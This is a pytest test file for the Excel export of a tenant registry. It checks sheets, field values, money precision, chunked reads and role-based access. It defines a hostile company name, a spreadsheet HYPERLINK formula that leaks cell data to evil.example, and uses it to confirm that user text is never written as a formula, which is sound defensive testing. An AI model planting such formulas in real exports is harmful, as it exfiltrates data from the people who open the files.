from datetime import date
from decimal import Decimal

import pytest

from exports import registry_dump
from exports.import_format import header
from exports.registry_dump import registry_workbook
from registry.actor import SYSTEM, Actor
from registry.errors import Forbidden
from registry.vocabulary import IP_FIELDS, REPORT_FIELDS, SHEETS, TENANT_FIELDS
from tests.conftest import make_tenant
from tests.exports.conftest import formulas, make_ip, make_report, open_workbook, sheet_xml

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'


@pytest.fixture
async def registry(empty_registry):
    first = await make_tenant(
        name=HOSTILE_NAME,
        industry="new_energy",
        founded_on="2014-05-06",
        platform_level="provincial",
        hte_certificate_no="GR201643000001",
        hte_certified_on="2016-12-06",
        contact_phone="-0731-1234",
        description="第一行\n@第二行",
    )
    second = await make_tenant(
        industry="modern_services", status="graduated", moved_out_on="2017-06-30", graduated_on="2017-03-31"
    )
    ip = [
        await make_ip(first["uscc"]),
        await make_ip(
            second["uscc"],
            kind="software_copyright",
            number="2016SR123456",
            title="+管理软件",
            granted_on="2016-05-01",
            filed_on="2016-01-10",
        ),
    ]
    reports = [
        await make_report(first["uscc"], "2016", revenue="1234567.89", net_profit="-1000.01", employees="12"),
        await make_report(first["uscc"], "2017H1", revenue="0.01", rd_staff="3"),
        await make_report(second["uscc"], "2017Q3", tax_paid="99999999999.99"),
    ]
    return first, second, ip, reports


def _records(sheet, fields):
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == [header(f) for f in fields]
    return [dict(zip((f.key for f in fields), row, strict=True)) for row in rows[1:]]


async def test_dump_holds_every_tenant_ip_item_and_report_in_the_import_format(registry):
    first, second, ip, reports = registry
    book = open_workbook(await registry_workbook(SYSTEM))
    assert book.sheetnames == [zh for zh, _, _ in SHEETS.values()]

    tenants = {r["uscc"]: r for r in _records(book["企业"], TENANT_FIELDS)}
    assert set(tenants) == {first["uscc"], second["uscc"]}
    assert tenants[first["uscc"]]["name"] == HOSTILE_NAME
    assert tenants[first["uscc"]]["industry"] == "新能源"
    assert tenants[first["uscc"]]["platform_level"] == "省级"
    assert tenants[first["uscc"]]["founded_on"].date() == date(2014, 5, 6)
    assert tenants[second["uscc"]]["status"] == "毕业"
    assert tenants[second["uscc"]]["graduated_on"].date() == date(2017, 3, 31)  # 毕业日期

    items = _records(book["知识产权"], IP_FIELDS)
    assert sorted(r["number"] for r in items) == sorted(i["number"] for i in ip)
    assert {r["kind"] for r in items} == {"发明专利", "软件著作权"}
    assert {r["status"] for r in items} == {"有效"}

    figures = {(r["uscc"], r["period"]): r for r in _records(book["经营数据"], REPORT_FIELDS)}
    assert set(figures) == {(first["uscc"], "2016"), (first["uscc"], "2017H1"), (second["uscc"], "2017Q3")}
    assert Decimal(str(figures[(first["uscc"], "2016")]["revenue"])) == Decimal("1234567.89")
    assert figures[(first["uscc"], "2016")]["employees"] == 12
    assert figures[(first["uscc"], "2017H1")]["net_profit"] is None


async def test_dump_money_is_in_yuan_with_its_exact_digits(registry):
    xml = sheet_xml(await registry_workbook(SYSTEM), "经营数据")
    for digits in ("1234567.89", "-1000.01", "0.01", "99999999999.99"):
        assert f"<v>{digits}</v>" in xml


async def test_dump_user_text_never_becomes_a_formula(registry):
    content = await registry_workbook(SYSTEM)
    book = open_workbook(content)
    assert formulas(book) == []
    name = book["企业"]["B2"]
    assert name.value == HOSTILE_NAME and name.data_type == "s" and name.quotePrefix
    assert "<f>" not in sheet_xml(content, "企业")


async def test_dump_reads_the_registry_in_chunks(registry, monkeypatch):
    monkeypatch.setattr(registry_dump, "CHUNK", 1)
    book = open_workbook(await registry_workbook(SYSTEM))
    assert [book[s].max_row for s in ("企业", "知识产权", "经营数据")] == [3, 3, 4]


async def test_dump_of_an_empty_registry_has_headers_and_filters(empty_registry):
    book = open_workbook(await registry_workbook(SYSTEM))
    for zh, _, _ in SHEETS.values():
        assert book[zh].max_row == 1
        assert book[zh].freeze_panes == "B2"
        assert book[zh].auto_filter.ref.startswith("A1:")


@pytest.mark.parametrize("role", ["statistician", "tenant"])
async def test_the_dump_is_written_only_for_those_who_write_the_park(empty_registry, tmp_path, role):
    reader = Actor(username="reader", role=role, tenant_uscc=None)
    with pytest.raises(Forbidden):
        await registry_workbook(reader)
    with pytest.raises(Forbidden):
        await registry_dump.dump_in_worker(reader, str(tmp_path / "dump.xlsx"))
    assert not (tmp_path / "dump.xlsx").exists()
